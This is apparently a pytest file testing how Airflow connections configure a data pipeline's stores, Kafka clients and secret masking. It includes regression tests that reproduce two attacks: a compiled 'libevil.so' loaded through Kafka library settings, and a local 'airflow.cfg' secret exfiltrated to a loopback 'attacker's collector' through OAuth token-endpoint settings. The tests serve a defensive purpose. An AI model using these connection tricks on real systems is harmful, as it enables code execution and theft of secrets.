"""Airflow connections for the shared parts: a postgres checkpoint store and an aws object store."""

from __future__ import annotations

import json
import os
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy.engine import make_url

from tidemark.checkpoints.store import PostgresCheckpointStore


@pytest.fixture(autouse=True)
def airflow_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AIRFLOW_HOME", os.environ.get("AIRFLOW_HOME", str(tmp_path / "airflow")))
    monkeypatch.setenv("AIRFLOW__CORE__LOAD_EXAMPLES", "False")


def test_checkpoint_store_from_a_postgres_connection(postgres: str, monkeypatch: pytest.MonkeyPatch) -> None:
    from tidemark.orchestration.dags import checkpoint_store

    url = make_url(postgres)
    conn = {"conn_type": "postgres", "host": url.host, "port": url.port, "login": url.username,
            "password": url.password, "schema": url.database}  # fmt: skip
    monkeypatch.setenv("AIRFLOW_CONN_TIDEMARK_CP_TEST", json.dumps(conn))

    store = checkpoint_store("tidemark_cp_test")

    assert isinstance(store, PostgresCheckpointStore)
    assert str(url.password) not in store.url and "***" in store.url
    group = f"g-conn-{uuid.uuid4().hex[:8]}"
    store.put(group, "plan-a", {("t", 0): 3}, "run-1")
    assert store.run_committed(group, "run-1")
    assert checkpoint_store("tidemark_cp_missing") is None  # not configured: env / SQLite apply


def test_storage_settings_from_an_aws_connection(monkeypatch: pytest.MonkeyPatch) -> None:
    from tidemark.errors import ConfigError
    from tidemark.orchestration.dags import storage_env

    conn = {"conn_type": "aws", "login": "key-id", "password": "the-secret",
            "extra": {"region_name": "eu-west-1", "endpoint_url": "http://127.0.0.1:9000"}}  # fmt: skip
    monkeypatch.setenv("AIRFLOW_CONN_TIDEMARK_S3_TEST", json.dumps(conn))
    monkeypatch.setenv("AIRFLOW_CONN_TIDEMARK_WRONG_TYPE", json.dumps({"conn_type": "http", "host": "x"}))

    assert storage_env("tidemark_s3_test") == {
        "AWS_ACCESS_KEY_ID": "key-id", "AWS_SECRET_ACCESS_KEY": "the-secret", "AWS_REGION": "eu-west-1",
        "TIDEMARK_S3_ENDPOINT": "http://127.0.0.1:9000",
    }  # fmt: skip
    assert storage_env("tidemark_s3_missing") == {}
    with pytest.raises(ConfigError, match="needs type aws"):
        storage_env("tidemark_wrong_type")


def test_iceberg_catalog_from_a_postgres_connection(postgres: str, monkeypatch: pytest.MonkeyPatch) -> None:
    from tidemark.errors import ConfigError
    from tidemark.orchestration.dags import iceberg_env
    from tidemark.output.iceberg import CATALOG_URI_ENV, open_catalog

    url = make_url(postgres)
    conn = {"conn_type": "postgres", "host": url.host, "port": url.port, "login": url.username,
            "password": url.password, "schema": url.database}  # fmt: skip
    monkeypatch.setenv("AIRFLOW_CONN_TIDEMARK_ICE_TEST", json.dumps(conn))
    monkeypatch.setenv("AIRFLOW_CONN_TIDEMARK_ICE_WRONG", json.dumps({"conn_type": "http", "host": "x"}))

    settings = iceberg_env("tidemark_ice_test")

    assert list(settings) == [CATALOG_URI_ENV] and settings[CATALOG_URI_ENV].startswith("postgresql+psycopg://")
    monkeypatch.setenv(CATALOG_URI_ENV, settings[CATALOG_URI_ENV])
    namespace = f"conn_{uuid.uuid4().hex[:8]}"
    open_catalog().create_namespace(namespace)  # the real catalog tables, in PostgreSQL through psycopg 3
    assert (namespace,) in open_catalog().list_namespaces()
    assert iceberg_env("tidemark_ice_missing") == {}
    with pytest.raises(ConfigError, match="Iceberg catalog needs type postgres"):
        iceberg_env("tidemark_ice_wrong")


def test_a_kafka_connection_names_a_token_callback_only_from_the_providers_allowlist(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from tidemark.errors import ConfigError
    from tidemark.kafka.connection import logged
    from tidemark.orchestration.dags import kafka_connection

    path = "tests.support.tokens.unsecured_jwt"
    extra = {"bootstrap.servers": "b:9093", "security.protocol": "SASL_SSL", "sasl.mechanism": "OAUTHBEARER",
             "sasl.oauthbearer.config": "principal=feed", "oauth_cb": path}  # fmt: skip
    monkeypatch.setenv("AIRFLOW_CONN_TIDEMARK_KAFKA_CB", json.dumps({"conn_type": "kafka", "extra": extra}))
    monkeypatch.delenv("AIRFLOW__APACHE_KAFKA__CALLBACK_ALLOWLIST", raising=False)
    with pytest.raises(ConfigError, match=f"oauth_cb='{path}'.*callback_allowlist"):
        kafka_connection("tidemark_kafka_cb")

    monkeypatch.setenv("AIRFLOW__APACHE_KAFKA__CALLBACK_ALLOWLIST", f"other.cb, {path}")
    conn = kafka_connection("tidemark_kafka_cb")
    assert conn.settings["oauth_cb"] == path and conn.to_env()["TIDEMARK_KAFKA_OAUTH_CB"] == path
    token, _, principal, _ = logged(conn.client_config())["oauth_cb"]("principal=feed")
    assert principal == "feed" and token.count(".") == 2


def test_schema_registry_from_an_http_connection(monkeypatch: pytest.MonkeyPatch) -> None:
    from tidemark.errors import ConfigError
    from tidemark.kafka.registry import from_env
    from tidemark.orchestration.dags import registry_env

    url = "http://127.0.0.1:8081/apis/ccompat/v7"
    monkeypatch.setenv(
        "AIRFLOW_CONN_TIDEMARK_SR_TEST",
        json.dumps({"conn_type": "http", "host": url, "login": "reader", "password": "sr-secret"}),
    )
    monkeypatch.setenv(
        "AIRFLOW_CONN_TIDEMARK_SR_PARTS",
        json.dumps({"conn_type": "http", "host": "registry.internal", "port": 8081, "schema": "https"}),
    )
    monkeypatch.setenv("AIRFLOW_CONN_TIDEMARK_SR_NO_HOST", json.dumps({"conn_type": "http", "login": "x"}))  # fmt: skip

    env = registry_env("tidemark_sr_test")
    assert env == {"TIDEMARK_SCHEMA_REGISTRY_URL": url, "TIDEMARK_SCHEMA_REGISTRY_USERNAME": "reader",
                   "TIDEMARK_SCHEMA_REGISTRY_PASSWORD": "sr-secret"}  # fmt: skip
    connection = from_env(env)
    assert connection is not None and "sr-secret" not in repr(connection)
    assert connection.describe() == {"url": url, "username": "reader", "password": "***"}
    assert registry_env("tidemark_sr_parts") == {"TIDEMARK_SCHEMA_REGISTRY_URL": "https://registry.internal:8081"}
    assert registry_env("tidemark_sr_missing") == {}  # not configured: the environment applies
    with pytest.raises(ConfigError, match="no host"):
        registry_env("tidemark_sr_no_host")


def test_the_masking_key_from_a_connection_travels_in_the_secrets_file_and_is_kept_out_of_reports(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from tidemark.config.masking import MASKING_KEY_ENV
    from tidemark.errors import ConfigError
    from tidemark.orchestration.dags import masking_env
    from tidemark.runs.report import secret_values
    from tidemark.spark.secrets import split_env

    key = uuid.uuid4().hex + uuid.uuid4().hex
    monkeypatch.setenv("AIRFLOW_CONN_TIDEMARK_MASK_TEST", json.dumps({"conn_type": "generic", "password": key}))
    monkeypatch.setenv("AIRFLOW_CONN_TIDEMARK_MASK_EMPTY", json.dumps({"conn_type": "generic", "login": "x"}))
    env = masking_env("tidemark_mask_test")
    assert env == {MASKING_KEY_ENV: key}
    assert split_env(env) == ({}, env)  # never in spark-submit's environment or its --conf arguments
    assert key in secret_values(environ=env)  # reports and the view redact it
    assert masking_env("tidemark_mask_missing") == {}
    with pytest.raises(ConfigError, match="no password"):
        masking_env("tidemark_mask_empty")


def test_a_connection_naming_a_library_to_load_is_refused_before_any_client_loads_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An extra with ``plugin.library.paths`` made librdkafka dlopen() the library (and run its constructor)
    in whichever process built a client: the api-server's view builds one to show a feed's lag."""
    import subprocess

    from tidemark.errors import ConfigError
    from tidemark.kafka.adapter import KafkaAdapter
    from tidemark.orchestration.dags import kafka_connection

    marker = tmp_path / "loaded"
    source = tmp_path / "evil.c"
    source.write_text(
        "#include <stdio.h>\n"
        f'__attribute__((constructor)) static void ran(void) {{ FILE *f = fopen("{marker}", "w"); '
        'if (f) { fputs("code ran", f); fclose(f); } }\n'
    )
    library = tmp_path / "libevil.so"
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(library), str(source)], check=True)
    refused: list[str] = []
    for setting in ("plugin.library.paths", "ssl.engine.location"):
        extra = {"bootstrap.servers": "127.0.0.1:9", setting: str(library)}
        monkeypatch.setenv("AIRFLOW_CONN_TIDEMARK_KAFKA_LIB", json.dumps({"conn_type": "kafka", "extra": extra}))
        try:
            KafkaAdapter(kafka_connection("tidemark_kafka_lib"), timeout_s=1.0)  # as the view's lag does
        except ConfigError as exc:
            refused.append(str(exc))
        except Exception:  # noqa: BLE001 - librdkafka's own failure after loading: the marker tells
            pass
        assert not marker.exists(), f"{setting}: the library was loaded into this process"
    assert len(refused) == 2 and all("'tidemark_kafka_lib'" in m for m in refused)
    assert "'plugin.library.paths'" in refused[0] and "'ssl.engine.location'" in refused[1]


def test_every_secret_of_a_kafka_connection_is_registered_with_airflows_masker(monkeypatch: pytest.MonkeyPatch) -> None:
    from airflow.sdk.log import redact

    from tidemark.orchestration.dags import kafka_connection

    secrets = {"sasl.oauthbearer.config": f"principal=feed extension_k=oauth-{uuid.uuid4().hex}",
               "ssl.key.pem": f"-----BEGIN PRIVATE KEY-----\nkey-{uuid.uuid4().hex}\n-----END PRIVATE KEY-----",
               "sasl.oauthbearer.client.secret": f"cs-{uuid.uuid4().hex}"}  # fmt: skip
    extra = {"bootstrap.servers": "b:9093", "security.protocol": "SASL_SSL", **secrets}
    monkeypatch.setenv("AIRFLOW_CONN_TIDEMARK_KAFKA_MASK", json.dumps({"conn_type": "kafka", "extra": extra}))
    conn = kafka_connection("tidemark_kafka_mask")
    for key, value in secrets.items():
        assert conn.settings[key] == value
        assert value not in str(redact(f"task log line: {value}")), key
        assert value not in str(redact(f"as an env var: {conn.to_env()}")), key


def test_object_store_and_catalog_secrets_are_registered_with_airflows_masker(monkeypatch: pytest.MonkeyPatch) -> None:
    from urllib.parse import quote

    from airflow.sdk.log import redact

    from tidemark.orchestration.dags import iceberg_env, storage_env

    token, password = f"session-{uuid.uuid4().hex}", f"p@ss/w:rd-{uuid.uuid4().hex}"
    aws = {"conn_type": "aws", "login": "key-id", "password": "the-secret", "extra": {"aws_session_token": token}}
    catalog = {"conn_type": "postgres", "host": "db", "login": "iceberg", "password": password, "schema": "c"}
    monkeypatch.setenv("AIRFLOW_CONN_TIDEMARK_S3_MASK", json.dumps(aws))
    monkeypatch.setenv("AIRFLOW_CONN_TIDEMARK_ICE_MASK", json.dumps(catalog))
    assert storage_env("tidemark_s3_mask")["AWS_SESSION_TOKEN"] == token
    uri = iceberg_env("tidemark_ice_mask")["TIDEMARK_ICEBERG_CATALOG_URI"]
    shown = str(redact(f"token {token}; catalog {uri}; encoded {quote(password, safe='')}"))
    assert token not in shown and quote(password, safe="") not in shown and password not in shown


@pytest.fixture
def listener() -> Iterator[tuple[str, list[bytes]]]:
    """A loopback HTTP listener: its token endpoint URL and the bodies POSTed to it (an attacker's collector)."""
    import http.server
    import threading

    received: list[bytes] = []

    class Collect(http.server.BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            received.append(self.rfile.read(int(self.headers.get("Content-Length", 0))))
            self.send_response(500)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Collect)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/token", received
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize("allowed_by", [None, "env", "airflow"])
def test_a_connection_cannot_post_a_local_file_to_an_address_it_chooses_unless_the_deployment_allows_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, listener: tuple[str, list[bytes]], allowed_by: str | None
) -> None:
    """An extra with ``sasl.oauthbearer.assertion.file`` and a token endpoint URL made librdkafka POST the whole file
    there when a client started: whoever may edit the connection read ``airflow.cfg`` out of the api-server."""
    import time

    from tidemark.errors import ConfigError
    from tidemark.kafka.adapter import KafkaAdapter
    from tidemark.orchestration.dags import kafka_connection

    url, received = listener
    secret = tmp_path / "airflow.cfg"
    secret.write_text(f"[core]\nfernet_key = {uuid.uuid4().hex}\n")
    extra = {"bootstrap.servers": "127.0.0.1:9", "security.protocol": "SASL_PLAINTEXT",
             "sasl.mechanism": "OAUTHBEARER", "sasl.oauthbearer.method": "oidc",
             "sasl.oauthbearer.grant.type": "urn:ietf:params:oauth:grant-type:jwt-bearer",
             "sasl.oauthbearer.assertion.file": str(secret), "sasl.oauthbearer.token.endpoint.url": url}  # fmt: skip
    monkeypatch.setenv("AIRFLOW_CONN_TIDEMARK_KAFKA_EXFIL", json.dumps({"conn_type": "kafka", "extra": extra}))
    names = "sasl.oauthbearer.assertion.file,sasl.oauthbearer.token.endpoint.url"
    if allowed_by == "env":
        monkeypatch.setenv("TIDEMARK_ALLOWED_KAFKA_SETTINGS", names)
    elif allowed_by == "airflow":
        monkeypatch.setenv("AIRFLOW__TIDEMARK__ALLOWED_KAFKA_SETTINGS", names)
    if allowed_by is None:
        with pytest.raises(ConfigError) as refused:
            KafkaAdapter(kafka_connection("tidemark_kafka_exfil"), timeout_s=1.0)  # as the view's lag does
        message = str(refused.value)
        assert "'tidemark_kafka_exfil'" in message and str(secret) not in message and url not in message
        assert "'sasl.oauthbearer.assertion.file'" in message and "'sasl.oauthbearer.token.endpoint.url'" in message
        time.sleep(1.0)
        assert received == []  # the listener never heard of the file
        return
    # Allowed by the deployment: the probe is real (librdkafka posts the file as soon as a client starts).
    from confluent_kafka import Producer

    producer = Producer(kafka_connection("tidemark_kafka_exfil").client_config())
    deadline = time.monotonic() + 15
    while not received and time.monotonic() < deadline:
        producer.poll(0.2)
    assert received and secret.read_text().strip() in received[0].decode()
